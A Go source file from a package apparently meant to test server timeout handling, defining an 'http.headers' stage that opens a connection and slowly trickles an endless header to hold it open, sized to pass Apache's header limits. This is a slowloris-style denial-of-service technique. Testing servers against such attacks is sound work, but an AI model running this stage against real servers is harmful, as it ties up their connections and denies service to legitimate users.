package attackers

import "strings"

// headerLine is how long each trickled header is: few enough headers for Apache's
// LimitRequestFields of 100, short enough ones for every server's line limit.
const headerLine = 500

// httpHeaders parks a connection inside its headers.
//
// Leans on: RFC 9112 section 5; client_header_timeout, RequestReadTimeout header=.
// Sends: request line, the usual headers, and the beginning of one more.
// Waits for: the connection, and the TLS handshake where there is one.
// Trickle: headers that never end, up to a size that servers still take.
func httpHeaders() stage {
	return stage{
		StageInfo: StageInfo{
			Name:         "http.headers",
			NeedsHTTP:    true,
			BeforeAuth:   true,
			Modes:        bothModes,
			Rule:         "RFC 9112 section 5",
			Sends:        "the request line, the usual headers, and the beginning of one more",
			WaitsFor:     "the connection and, with TLS, the end of the handshake",
			Trickles:     "headers without an end",
			TrickleBytes: headTrickle,
		},
		reach: func(c *client) error {
			if err := c.secure(); err != nil {
				return err
			}
			const name = "X-Hold: "
			line := strings.Repeat("a", headerLine) + "\r\n" + name
			c.drip = dripPattern(c.rw(), line, headTrickle)
			head := c.hold.Request.head("GET", c.hold.Request.Path, c.hold.Address)
			return c.send("send the beginning of the headers", strings.TrimSuffix(head, "\r\n")+name)
		},
	}
}
